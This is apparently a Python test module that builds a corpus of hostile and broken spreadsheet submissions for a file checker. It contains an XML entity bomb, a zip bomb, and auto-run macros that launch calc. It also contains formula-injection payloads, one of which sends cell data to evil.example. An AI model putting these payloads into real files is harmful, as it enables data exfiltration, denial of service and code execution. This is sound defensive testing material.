"""A corpus of hostile and broken submissions, written by the tests themselves into a folder.

Each file comes with what ``aidtools check`` must make of it: a ``file.unreadable`` finding with the
reader's reason (``UnreadableFile.reason``), or the template it must still be recognised as and the
finding it must carry. Nothing here is big on disk: the zip bomb is 200+ MB of sheet XML that
compresses to well under 1 MB, written through a streaming zip entry so the test never holds it.
``build_corpus(folder)`` writes them all (a few seconds) and returns one :class:`Case` per file.
"""
from __future__ import annotations

import io
import random
import re
import struct
import tempfile
import zipfile
from dataclasses import dataclass
from pathlib import Path

from builders import Sheet, rows_for, spec_of, write_book, write_csv

from aidtools.reading.cfb import minimal_cfb

XLSB_FIXTURE = Path(__file__).resolve().parent / "fixtures" / "workbooks" / "student.xlsb"

FORMULA_PAYLOADS = {
    "院系": '=HYPERLINK("http://evil.example/?d="&E2,"点击查看")',
    "专业": "+cmd|' /C calc'!A0",
    "班级": "@SUM(1+1)*cmd|' /C calc'!A0",
}
ZERO_WIDTH_NAME = "李\u200b四"
RIGHT_TO_LEFT_NAME = "\u202e王五"
EMOJI_NAME = "张三😀"
BIG_CELL_CHARS = 1024 * 1024
BOMB_SHEET_BYTES = 210 * 1024 * 1024


@dataclass
class Case:
    name: str  # file name in the corpus folder
    rule: str  # the finding the file must carry
    reason: str | None = None  # UnreadableFile.reason, for file.unreadable
    template: str | None = None  # the template it must still be recognised as
    note: str = ""


def build_corpus(folder: Path) -> list[Case]:
    """Write every hostile file into ``folder``; return what each must produce."""
    folder.mkdir(parents=True, exist_ok=True)
    cases = []
    for build in BUILDERS:
        cases.append(build(folder))
    return cases


# ---- the valid workbook everything else is cut from -----------------------------------------

def student_book(path: Path, *changes: dict, n: int = 3, writer: str = "openpyxl", sheets_before=()) -> Path:
    sheet = Sheet(spec_of("student").sheet, rows_for("student", *changes, n=n))
    return write_book(path, writer=writer, sheets=[*sheets_before, sheet])


def student_bytes(n: int = 40, writer: str = "openpyxl") -> bytes:
    """A valid student workbook of ``n`` rows, as bytes (xlsxwriter: with shared strings)."""
    with tempfile.TemporaryDirectory() as folder:
        return student_book(Path(folder) / "s.xlsx", n=n, writer=writer).read_bytes()


def rewrite_zip(data: bytes, out: Path, edits=None, extra=None) -> Path:
    """Copy a zip, passing named parts through ``edits[name](bytes) -> bytes`` and adding ``extra``."""
    edits, extra = edits or {}, extra or {}
    missing = set(edits) - set(zipfile.ZipFile(io.BytesIO(data)).namelist())
    assert not missing, f"no part {missing} to edit"
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename in edits:
                edited = edits[info.filename](body)
                assert edited != body, f"the edit of {info.filename} changed nothing"
                body = edited
            dst.writestr(info.filename, body)
        for name, body in extra.items():
            dst.writestr(name, body)
    return out


# ---- files that cannot be read ----------------------------------------------------------------

def empty_file(folder: Path) -> Case:
    (folder / "空文件.xlsx").write_bytes(b"")
    return Case("空文件.xlsx", "file.unreadable", "empty")


def random_bytes(folder: Path) -> Case:
    rng = random.Random(8)
    data = bytes(rng.getrandbits(8) for _ in range(64 * 1024))
    (folder / "乱码.xlsx").write_bytes(b"\x13\x37" + data)  # never a zip, OLE or text signature
    return Case("乱码.xlsx", "file.unreadable", "corrupt")


def truncated(folder: Path) -> Case:
    data = student_bytes()
    (folder / "下载中断.xlsx").write_bytes(data[: len(data) // 2])
    return Case("下载中断.xlsx", "file.unreadable", "corrupt", note="a valid .xlsx cut in half")


def html_as_xls(folder: Path) -> Case:
    headers = "".join(f"<th>{h}</th>" for h in spec_of("student").headers)
    cells = "".join(f"<td>{v}</td>" for v in rows_for("student")[1])
    html = (f'<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            f"<table><tr>{headers}</tr><tr>{cells}</tr></table></body></html>")
    (folder / "系统导出.xls").write_text(html, encoding="utf-8")
    return Case("系统导出.xls", "file.unreadable", "html", note="an HTML table saved as .xls")


def plain_zip(folder: Path) -> Case:
    with zipfile.ZipFile(folder / "材料打包.xlsx", "w") as z:
        z.writestr("说明.txt", "请查收附件".encode("utf-8"))
        z.writestr("照片/1.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 100)
    return Case("材料打包.xlsx", "file.unreadable", "format")


def docx_like(folder: Path) -> Case:
    with zipfile.ZipFile(folder / "情况说明.xlsx", "w") as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/'
                   'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
        z.writestr("word/document.xml", '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                   'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>学生名单见附件</w:t></w:r></w:p></w:body></w:document>')
    return Case("情况说明.xlsx", "file.unreadable", "format", note="a .docx renamed")


def encrypted(folder: Path) -> Case:
    """A real password-protected workbook when msoffcrypto-tool is installed, else the same
    container built by hand (an OLE2 file holding EncryptionInfo and EncryptedPackage)."""
    data = student_bytes(5)
    try:
        from msoffcrypto.format.ooxml import OOXMLFile
        out = io.BytesIO()
        OOXMLFile(io.BytesIO(data)).encrypt("资助2018", out)
        body, how = out.getvalue(), "msoffcrypto-tool"
    except ImportError:
        info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'
        package = struct.pack("<Q", len(data)) + data  # real ones are AES; the reader never looks inside
        body, how = minimal_cfb({"EncryptionInfo": info, "EncryptedPackage": package}), "hand-built CFB"
    (folder / "加密.xlsx").write_bytes(body)
    return Case("加密.xlsx", "file.unreadable", "encrypted", note=how)


def billion_laughs(folder: Path) -> Case:
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{k} "{("&lol%d;" % (k - 1)) * 10}">' for k in range(1, 10))

    def poison(xml: bytes) -> bytes:
        text = xml.decode("utf-8")
        start = text.index("?>") + 2
        text = text[:start] + f"<!DOCTYPE lolz [{entities}]>" + text[start:]
        return text.replace("<t>学校代码</t>", "<t>&lol9;</t>", 1).encode("utf-8")

    rewrite_zip(student_bytes(3, "xlsxwriter"), folder / "XML炸弹.xlsx", edits={"xl/sharedStrings.xml": poison})
    return Case("XML炸弹.xlsx", "file.unreadable", "entities", note="billion laughs in xl/sharedStrings.xml")


_MINIMAL = {
    "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override '
    'PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.worksheet+xml"/></Types>',
    "_rels/.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="学生基本信息" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
    'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.'
    'org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}
_SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8"?>'
               b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')


def zip_bomb(folder: Path) -> Case:
    """210 MB of identical rows in one sheet part, streamed into the zip: about 0.5 MB on disk."""
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    block = row * (1024 * 1024 // len(row))
    path = folder / "压缩炸弹.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, text in _MINIMAL.items():
            z.writestr(name, text)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(_SHEET_HEAD + b"<sheetData>")
            for _ in range(BOMB_SHEET_BYTES // len(block) + 1):
                part.write(block)
            part.write(b"</sheetData></worksheet>")
    note = f"{BOMB_SHEET_BYTES >> 20} MB of rows, {path.stat().st_size >> 10} KB on disk"
    return Case("压缩炸弹.xlsx", "file.unreadable", "bomb", note=note)


def far_cell(folder: Path) -> Case:
    """A valid template plus one cell at XFD1048576: calamine would build a 17-billion-cell grid."""
    path = student_book(folder / "远处单元格.xlsx")

    def add_far_cell(xml: bytes) -> bytes:
        far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
        return xml.replace(b"</sheetData>", far, 1)

    rewrite_zip(path.read_bytes(), path, edits={"xl/worksheets/sheet1.xml": add_far_cell})
    return Case("远处单元格.xlsx", "file.unreadable", "too_large", note="A1 and XFD1048576 both hold content")


def shared_string_claim(folder: Path) -> Case:
    """uniqueCount="4000000000": calamine reserves 96 GB for it and the process aborts."""
    def claim(xml: bytes) -> bytes:
        return re.sub(rb'uniqueCount="\d+"', b'uniqueCount="4000000000"', xml, count=1)

    rewrite_zip(student_bytes(3, "xlsxwriter"), folder / "字符串表.xlsx", edits={"xl/sharedStrings.xml": claim})
    return Case("字符串表.xlsx", "file.unreadable", "corrupt", note="sharedStrings claims 4e9 strings")


def far_cell_xls(folder: Path) -> Case:
    """An .xls whose one LABELSST record claims row 65535, column 255 (legal BIFF8 coordinates)."""
    path = folder / "远处单元格.xls"
    write_book(path, writer="xlwt", sheets=[Sheet(spec_of("student").sheet, rows_for("student", n=2))])
    data = bytearray(path.read_bytes())
    at = data.find(b"\xfd\x00\x0a\x00\x01\x00\x00\x00")  # LABELSST, row 1 column 0
    assert at > 0, "xlwt wrote no LABELSST record for A2"
    struct.pack_into("<HH", data, at + 4, 65535, 255)
    path.write_bytes(bytes(data))
    return Case("远处单元格.xls", "file.unreadable", "too_large", note="one record at row 65536, column IV")


def old_excel(folder: Path) -> Case:
    """An Excel 4.0 worksheet (BIFF4): a bare record stream, no OLE container (calamine: "Invalid OLE")."""
    rec = lambda kind, body: struct.pack("<HH", kind, len(body)) + body  # noqa: E731

    def label(r, c, text):
        data = text.encode("gbk")
        return rec(0x0204, struct.pack("<HHHH", r, c, 0, len(data)) + data)

    cells = [label(0, c, h) for c, h in enumerate(spec_of("student").headers[:3])]
    body = rec(0x0409, struct.pack("<HHH", 0, 0x10, 0)) + rec(0x0042, struct.pack("<H", 936)) + b"".join(cells)
    (folder / "Excel4.xls").write_bytes(body + rec(0x000A, b""))
    return Case("Excel4.xls", "file.unreadable", "old_excel", note="BIFF4 BOF 0x0409")


def unknown_codepage(folder: Path) -> Case:
    """An .xls whose CODEPAGE record says 8001 (calamine: "Codepage 1F41 not found")."""
    path = folder / "代码页.xls"
    write_book(path, writer="xlwt", sheets=[Sheet(spec_of("student").sheet, rows_for("student", n=2))])
    data = bytearray(path.read_bytes())
    at = data.find(b"\x42\x00\x02\x00")  # CODEPAGE, 2 bytes
    assert at > 0, "xlwt wrote no CODEPAGE record"
    struct.pack_into("<H", data, at + 4, 8001)
    path.write_bytes(bytes(data))
    return Case("代码页.xls", "file.unreadable", "codepage")


def macro_sheet(folder: Path) -> Case:
    """An Excel 4.0 macro sheet (xl/macrosheets/) beside the template sheet (calamine: "Unrecognized sheet")."""
    def types(xml: bytes) -> bytes:
        return xml.replace(b"</Types>", b'<Override PartName="/xl/macrosheets/sheet2.xml" '
                           b'ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>')

    def book(xml: bytes) -> bytes:
        return re.sub(rb"(<sheet [^>]*/>)", rb'\1<sheet name="Macro1" sheetId="9" r:id="rIdM"/>', xml, count=1)

    def rels(xml: bytes) -> bytes:
        return xml.replace(b"</Relationships>", b'<Relationship Id="rIdM" Type="http://schemas.microsoft.com/office/'
                           b'2006/relationships/xlMacrosheet" Target="macrosheets/sheet2.xml"/></Relationships>')

    macro = (b'<?xml version="1.0" encoding="UTF-8"?><xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
             b'2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1">'
             b'<f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>')
    rewrite_zip(student_bytes(3), folder / "宏表.xlsm", edits={"[Content_Types].xml": types, "xl/workbook.xml": book,
                                                              "xl/_rels/workbook.xml.rels": rels},
                extra={"xl/macrosheets/sheet2.xml": macro})
    return Case("宏表.xlsm", "file.unreadable", "macro_sheet")


def repeated_ods_rows(folder: Path) -> Case:
    """An ODS whose one row, holding a value in 200 repeated columns, is repeated 100,000 times:
    a few hundred bytes of content.xml, 20 million cells in calamine."""
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:'
               'opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
               '<office:spreadsheet><table:table table:name="学生基本信息"><table:table-row '
               'table:number-rows-repeated="100000"><table:table-cell table:number-columns-repeated="200" '
               'office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table>'
               '</office:spreadsheet></office:body></office:document-content>')
    ods_package(folder / "重复行.ods", content)
    return Case("重复行.ods", "file.unreadable", "too_large", note="number-rows-repeated × number-columns-repeated")


def ods_package(path: Path, content: str) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("META-INF/manifest.xml", '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
                   '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" '
                   'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>')
        z.writestr("content.xml", content)
    return path


# ---- files that are read, recognised, and carry a finding -------------------------------------

def utf16_csv(folder: Path) -> Case:
    text = "\n".join(",".join("" if v is None else str(v) for v in row) for row in rows_for("student"))
    (folder / "Unicode文本.csv").write_bytes(text.encode("utf-16"))
    return Case("Unicode文本.csv", "", template="student", note="UTF-16 with a byte order mark")


def unicode_text(folder: Path) -> Case:
    """Excel's "Unicode 文本(*.txt)": tab-separated UTF-16 LE with a byte order mark, CRLF."""
    text = "\r\n".join("\t".join("" if v is None else str(v) for v in row) for row in rows_for("student", n=2))
    (folder / "Unicode文本.txt").write_bytes(b"\xff\xfe" + text.encode("utf-16-le"))
    return Case("Unicode文本.txt", "", template="student")


def gb18030_tsv(folder: Path) -> Case:
    text = "\n".join("\t".join("" if v is None else str(v) for v in row) for row in rows_for("student", n=2))
    (folder / "制表符.tsv").write_bytes(text.encode("gb18030"))
    return Case("制表符.tsv", "", template="student")


def ods_by_pandas(folder: Path) -> Case:
    """An .ods written by a second writer: pandas' odf engine (odfpy)."""
    import pandas as pd
    rows = rows_for("student", n=3)
    pd.DataFrame(rows[1:], columns=rows[0]).to_excel(folder / "LibreOffice.ods", engine="odf", index=False,
                                                      sheet_name=spec_of("student").sheet)
    return Case("LibreOffice.ods", "", template="student", note="pandas + odfpy")


def xlsb_fixture(folder: Path) -> Case:
    """The committed .xlsb (tests/fixtures/workbooks/README.md says how it was written)."""
    (folder / "二进制.xlsb").write_bytes(XLSB_FIXTURE.read_bytes())
    return Case("二进制.xlsb", "", template="student", note="pyxlsbwriter, committed")


def backslash_names(folder: Path) -> Case:
    """Every part name with backslashes (``xl\\workbook.xml``), as some Chinese export tools write them."""
    data = student_bytes(3)
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(folder / "反斜杠.xlsx", "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename.replace("/", "\\"), src.read(info))
    return Case("反斜杠.xlsx", "", template="student", note="backslash part names: calamine reads them")


def relocated_workbook(folder: Path) -> Case:
    """A minimal package: no docProps, the workbook part at the root (``book.xml``), found only from
    ``_rels/.rels`` (openpyxl reads it; calamine looks for xl/workbook.xml)."""
    data = student_bytes(3)
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(folder / "最小包.xlsx", "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            name, body = info.filename, src.read(info)
            if name.startswith("docProps/"):
                continue
            if name == "[Content_Types].xml":
                body = re.sub(rb'<Override PartName="/docProps/[^>]*/>', b"", body).replace(b"/xl/workbook.xml", b"/book.xml")
            elif name == "_rels/.rels":
                body = re.sub(rb'<Relationship [^>]*docProps[^>]*/>', b"", body).replace(b"xl/workbook.xml", b"book.xml")
            elif name == "xl/workbook.xml":
                name = "book.xml"
            elif name == "xl/_rels/workbook.xml.rels":
                name, body = "_rels/book.xml.rels", re.sub(rb'Target="/?(?:xl/)?', b'Target="xl/', body)
            dst.writestr(name, body)
    return Case("最小包.xlsx", "", template="student", note="read by openpyxl")


def no_package_rels(folder: Path) -> Case:
    """Excel's layout without ``_rels/.rels`` (calamine: "File not found"; openpyxl reads it)."""
    data = student_bytes(3)
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(folder / "缺关系.xlsx", "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != "_rels/.rels" and not info.filename.startswith("docProps/"):
                dst.writestr(info.filename, src.read(info))
    return Case("缺关系.xlsx", "", template="student", note="read by openpyxl")


# ---- files that are read, recognised, and carry a finding -------------------------------------

def claimed_dimension(folder: Path) -> Case:
    """``<dimension ref="A1:XFD1048576"/>`` with three rows: calamine ignores the claim, so do we."""
    def claim(xml: bytes) -> bytes:
        return re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD1048576"/>', xml, count=1)

    path = folder / "声称巨大.xlsx"
    rewrite_zip(student_bytes(3, "xlsxwriter"), path, edits={"xl/worksheets/sheet1.xml": claim})
    return Case("声称巨大.xlsx", "", template="student", note="dimension claim only: read and checked")


def big_cell(folder: Path) -> Case:
    """A 1 M-character 院系 in row 2, put into the sheet XML directly (Excel and openpyxl stop at 32,767)."""
    def enlarge(xml: bytes) -> bytes:
        return xml.replace("<t>机械工程学院</t>".encode(), f"<t>{'机' * BIG_CELL_CHARS}</t>".encode(), 1)

    rewrite_zip(student_bytes(3), folder / "超长单元格.xlsx", edits={"xl/worksheets/sheet1.xml": enlarge})
    return Case("超长单元格.xlsx", "cell.length", template="student", note="a 1 M-character cell")


def gbk_csv(folder: Path) -> Case:
    write_csv(folder / "GBK.csv", rows_for("student", n=2), encoding="gbk")
    return Case("GBK.csv", "", template="student")


def bom_csv(folder: Path) -> Case:
    write_csv(folder / "BOM.csv", rows_for("student", n=2), encoding="utf-8-sig")
    return Case("BOM.csv", "", template="student")


def extra_sheets(folder: Path) -> Case:
    before = [Sheet("填表说明", [["请按模板填写"], ["身份证号请设置为文本格式"]]), Sheet("Sheet1", [[None]])]
    student_book(folder / "多工作表.xlsx", sheets_before=before)
    return Case("多工作表.xlsx", "", template="student", note="two sheets before the template sheet")


def macros(folder: Path) -> Case:
    def macro_types(xml: bytes) -> bytes:
        xml = xml.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                          b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
        return xml.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')

    def macro_rel(xml: bytes) -> bytes:
        return xml.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/'
                           b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')

    vba = minimal_cfb({"VBA": b"Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n Shell \"calc\"\r\nEnd Sub\r\n"})
    rewrite_zip(student_bytes(3), folder / "带宏.xlsm",
                edits={"[Content_Types].xml": macro_types, "xl/_rels/workbook.xml.rels": macro_rel},
                extra={"xl/vbaProject.bin": vba})
    return Case("带宏.xlsm", "", template="student", note="xl/vbaProject.bin and the macro content type")


def formula_payloads(folder: Path) -> Case:
    student_book(folder / "公式注入.xlsx", dict(FORMULA_PAYLOADS))
    return Case("公式注入.xlsx", "", template="student", note="payloads typed as text stay text")


def emoji_name(folder: Path) -> Case:
    student_book(folder / "表情符号.xlsx", {"姓名": EMOJI_NAME})
    return Case("表情符号.xlsx", "cell.pattern", template="student")


def invisible_characters(folder: Path) -> Case:
    student_book(folder / "不可见字符.xlsx", {"姓名": ZERO_WIDTH_NAME}, {"姓名": RIGHT_TO_LEFT_NAME})
    return Case("不可见字符.xlsx", "cell.whitespace", template="student", note="zero-width and right-to-left marks")


BUILDERS = [
    empty_file, random_bytes, truncated, html_as_xls, plain_zip, docx_like, encrypted, billion_laughs, zip_bomb,
    far_cell, shared_string_claim, far_cell_xls, old_excel, unknown_codepage, macro_sheet, repeated_ods_rows,
    utf16_csv, unicode_text, gb18030_tsv, ods_by_pandas, xlsb_fixture, backslash_names, relocated_workbook,
    no_package_rels, claimed_dimension, big_cell, gbk_csv, bom_csv,
    extra_sheets, macros, formula_payloads, emoji_name, invisible_characters,
]
